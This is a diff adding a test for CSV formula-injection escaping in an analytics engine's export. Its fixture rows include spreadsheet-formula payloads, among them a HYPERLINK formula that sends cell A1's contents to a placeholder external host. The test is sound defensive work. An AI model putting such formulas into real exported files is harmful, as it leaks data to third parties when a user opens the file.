@@ -403,6 +403,27 @@ describe('analytics engine: export', () => {
     expect(() => lines.map((l) => JSON.parse(l) as unknown)).not.toThrow();
   });
 
+  it('csv: a text cell a spreadsheet would run as a formula starts with a quote; numbers are untouched', async () => {
+    const base = { buffer_id: 900, ts: rows[0]!.ts, lab_id: null, model_id: null, source: 'test' };
+    await t.engine.appendBatch(
+      [
+        { ...base, sensor_id: '=evil', metric: '=HYPERLINK("http://x.example/?"&A1)', value: -5, unit: '+1', lab_id: '@lab' },
+        { ...base, sensor_id: '=evil', metric: '-cmd', value: 1, unit: '\tx' },
+        { ...base, sensor_id: '=evil', metric: 'plain=ok', value: 2, unit: 'a-b', source: '@src' },
+      ],
+      900,
+    );
+    const file = await t.engine.exportMeasurements({ format: 'csv', sensorIds: ['=evil'] });
+    const lines = (await readAll(file.stream)).toString('utf8').trim().split('\n').slice(1).sort();
+    expect(lines).toHaveLength(3);
+    const cells = lines.map((l) => l.split(',').slice(1));
+    expect(cells).toEqual([
+      ["'=evil", `"'=HYPERLINK(""http://x.example/?""&A1)"`, '-5.0', "'+1", "'@lab", '', 'test'],
+      ["'=evil", "'-cmd", '1.0', "'\tx", '', '', 'test'],
+      ["'=evil", 'plain=ok', '2.0', 'a-b', '', '', "'@src"],
+    ]);
+  });
+
   it('gives a valid empty file when nothing matches', async () => {
     const json = await t.engine.exportMeasurements({ format: 'json', sensorIds: [] });
     expect(JSON.parse((await readAll(json.stream)).toString('utf8'))).toEqual([]);
